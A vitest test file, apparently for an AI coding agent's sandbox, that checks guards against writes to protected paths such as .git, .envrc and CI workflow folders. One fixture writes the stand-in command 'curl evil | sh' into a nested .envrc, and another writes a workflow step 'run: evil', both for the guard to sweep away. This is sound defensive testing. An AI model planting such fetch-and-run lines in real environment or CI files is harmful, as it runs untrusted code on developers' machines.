import { existsSync } from 'node:fs';
import { mkdir, readFile, rename, symlink, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createWriteFileTool } from '../../src/tools/builtin/write-file.js';
import {
  guardProtectedPaths,
  PROTECTED_PATHS,
  protectedEntryOf,
  scanProtected,
} from '../../src/tools/protected-paths.js';
import { callTool, contextFor, createWorld, outcome, snapshot, type World } from './harness.js';

let world: World;
beforeEach(async () => {
  world = await createWorld();
});
afterEach(() => world.cleanup());

describe('protectedEntryOf', () => {
  it('matches protected entries at any depth and in any case, and nothing else', () => {
    expect(protectedEntryOf('.git/hooks/pre-commit')?.path).toBe('.git');
    expect(protectedEntryOf('vendor/lib/.GIT/config')?.path).toBe('.git');
    expect(protectedEntryOf('.github/workflows/ci.yml')?.path).toBe('.github/workflows');
    expect(protectedEntryOf('.envrc')?.path).toBe('.envrc');
    expect(protectedEntryOf('.github/ISSUE_TEMPLATE.md')).toBeUndefined();
    expect(protectedEntryOf('notes/git/config')).toBeUndefined();
    expect(protectedEntryOf('a.gitignore')).toBeUndefined();
  });

  it('gives every entry a reason', () => {
    for (const entry of PROTECTED_PATHS) expect(entry.reason.length).toBeGreaterThan(20);
  });
});

describe('write_file and protected paths', () => {
  it('writes a protected path when the run allows protected writes', async () => {
    const result = await callTool(
      createWriteFileTool(),
      { path: '.envrc', content: 'export A=1\n' },
      contextFor(world.workspace, { sandbox: { allowProtectedWrites: true } }),
    );
    expect(outcome(result)).toBe('ok');
    expect(await readFile(path.join(world.workspace, '.envrc'), 'utf8')).toBe('export A=1\n');
  });
});

describe('guardProtectedPaths', () => {
  it('holds placeholders for missing entries and removes them again, keeping existing ones', async () => {
    await mkdir(path.join(world.workspace, '.git'));
    await writeFile(path.join(world.workspace, '.git', 'config'), '[core]\n');
    const before = await snapshot(world.workspace);
    const guard = await guardProtectedPaths([world.workspace]);
    expect(guard.paths).toContain(path.join(world.workspace, '.git'));
    expect(guard.paths).toContain(path.join(world.workspace, '.github', 'workflows'));
    expect(existsSync(path.join(world.workspace, '.envrc'))).toBe(true);
    const second = await guardProtectedPaths([world.workspace]);
    await guard.release();
    // Still held by the second guard.
    expect(existsSync(path.join(world.workspace, '.envrc'))).toBe(true);
    await second.release();
    expect(await snapshot(world.workspace)).toEqual(before);
  });

  it('refuses a protected entry that is a symbolic link', async () => {
    await symlink(world.outside, path.join(world.workspace, '.vscode'));
    const before = await snapshot(world.workspace);
    await expect(guardProtectedPaths([world.workspace])).rejects.toThrow(/symbolic link/);
    expect(await snapshot(world.workspace)).toEqual(before);
  });
});

describe('scanProtected', () => {
  it('finds protected entries at any depth, without descending into them, node_modules or .venv', async () => {
    const ws = world.workspace;
    await mkdir(path.join(ws, 'a', 'b', '.git', 'hooks'), { recursive: true });
    await mkdir(path.join(ws, 'a', '.github', 'workflows'), { recursive: true });
    await writeFile(path.join(ws, 'a', 'b', '.Envrc'), 'x');
    await mkdir(path.join(ws, 'node_modules', 'pkg', '.husky'), { recursive: true });
    await mkdir(path.join(ws, '.venv', 'lib', '.git'), { recursive: true });
    await mkdir(path.join(ws, '.github', 'ISSUE_TEMPLATE'), { recursive: true });
    const scan = await scanProtected([ws]);
    expect([...scan.found.values()].map((found) => found.relative).sort()).toEqual([
      'a/.github/workflows',
      'a/b/.Envrc',
      'a/b/.git',
    ]);
    expect(scan.folders.has(path.join(ws, 'a', 'b', '.git', 'hooks'))).toBe(false);
  });

  it('refuses a tree with more folders than it checks', async () => {
    for (let index = 0; index < 12; index += 1)
      await mkdir(path.join(world.workspace, `d${index}`));
    await expect(scanProtected([world.workspace], 10)).rejects.toThrow(/more than 10 folders/);
  });
});

describe('guardProtectedPaths sweep', () => {
  it('mounts nested entries read-only and removes the ones created during the call, with the folders made for them', async () => {
    const ws = world.workspace;
    await mkdir(path.join(ws, 'sub', 'repo', '.git'), { recursive: true });
    const before = await snapshot(ws);
    const guard = await guardProtectedPaths([ws]);
    expect(guard.paths).toContain(path.join(ws, 'sub', 'repo', '.git'));
    // What a program would do during the call.
    await writeFile(path.join(ws, 'sub', '.envrc'), 'curl evil | sh');
    await mkdir(path.join(ws, 'sub', '.github', 'workflows'), { recursive: true });
    await writeFile(path.join(ws, 'sub', '.github', 'workflows', 'ci.yml'), 'run: evil');
    const swept = await guard.sweep();
    await guard.release();
    expect(swept.removed.map((item) => item.relative).sort()).toEqual([
      'sub/.envrc',
      'sub/.github/workflows',
    ]);
    expect(swept.failed).toEqual([]);
    expect(await snapshot(ws)).toEqual(before);
  });

  it('leaves an original moved with its folder, and removes a new one put in its place', async () => {
    const ws = world.workspace;
    await mkdir(path.join(ws, 'sub', '.git'), { recursive: true });
    await writeFile(path.join(ws, 'sub', '.git', 'config'), '[core]\n');
    const guard = await guardProtectedPaths([ws]);
    await rename(path.join(ws, 'sub'), path.join(ws, 'moved'));
    await mkdir(path.join(ws, 'sub', '.git'), { recursive: true });
    const swept = await guard.sweep();
    await guard.release();
    expect(swept.removed.map((item) => item.relative)).toEqual(['sub/.git']);
    expect(await readFile(path.join(ws, 'moved', '.git', 'config'), 'utf8')).toBe('[core]\n');
  });

  it('does not remove the placeholders of a concurrent call that started later', async () => {
    const sub = path.join(world.workspace, 'sub');
    await mkdir(sub);
    const first = await guardProtectedPaths([world.workspace]);
    // A later call whose writable folder lies inside (an output folder in the workspace).
    const second = await guardProtectedPaths([sub]);
    expect(existsSync(path.join(sub, '.envrc'))).toBe(true);
    expect((await first.sweep()).removed).toEqual([]);
    await first.release();
    expect(existsSync(path.join(sub, '.envrc'))).toBe(true);
    await second.release();
    expect(existsSync(path.join(sub, '.envrc'))).toBe(false);
  });
});
